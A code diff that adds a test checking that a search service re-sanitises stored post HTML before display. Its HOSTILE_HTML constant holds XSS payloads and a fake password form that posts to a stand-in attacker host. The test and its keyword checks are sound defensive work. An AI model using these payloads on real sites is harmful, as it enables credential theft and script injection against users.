@@ -435,3 +435,35 @@ def test_garbled_stored_posts_are_damage_not_a_traceback(pristine, tmp_path, how
         assert f"the index at {index} is damaged" in said, (command, said)
         if how == "not a pickle" and command != "check":
             assert "a stored post cannot be read (UnpicklingError: " in said, (command, said)
+
+
+HOSTILE_HTML = ('<p>Synthetic post.</p><form action="http://attacker.test/collect" method="get">'
+                '<p>Session expired: re-enter your password</p><input name="password" type="password">'
+                '<button>Log in</button></form><a href="javascript:alert(document.domain)">click</a>'
+                '<meta http-equiv="refresh" content="5;url=http://attacker.test/"><img src=x onerror=alert(1)>')
+
+
+def test_stored_html_from_an_index_someone_else_wrote_is_cleaned_again_when_shown(tmp_path, monkeypatch,
+                                                                                   client_for):
+    """The first review: an index written with the cleaner swapped out (every checksum genuine)
+    showed its form, meta refresh, javascript: link and onerror on the post page and in the API."""
+    import searchsvc.records as records
+
+    monkeypatch.setattr(records, "render_markdown", lambda source: HOSTILE_HTML)
+    posts = tmp_path / "forged.jsonl"
+    posts.write_text(json.dumps({"id": "forged1", "title": "Forged post", "author": "Dana Placeholder",
+                                 "date": "2021-02-02", "body": "Synthetic post.", "body_format": "markdown"}) + "\n",
+                     encoding="utf-8")
+    result = CliRunner().invoke(cli, ["ingest", "--index", str(tmp_path / "index"), str(posts)])
+    assert result.exit_code == 0, result.output
+    monkeypatch.undo()
+    client = client_for(tmp_path / "index")
+    for path in ("/posts/forged1", "/posts/forged1?q=synthetic"):
+        page = client.get(path).get_data(as_text=True)
+        assert "Synthetic" in page and "Session expired" in page  # the text is kept, as text
+        for markup in ("<form", "<input", "javascript:", "onerror", "http-equiv", "attacker.test"):
+            assert markup not in page, (path, markup)
+    shown = client.get("/api/posts/forged1").get_json()["body_html"]
+    assert shown.startswith("<p>Synthetic post.</p>")
+    for markup in ("<form", "<input", "javascript:", "onerror", "http-equiv", "attacker.test"):
+        assert markup not in shown, markup
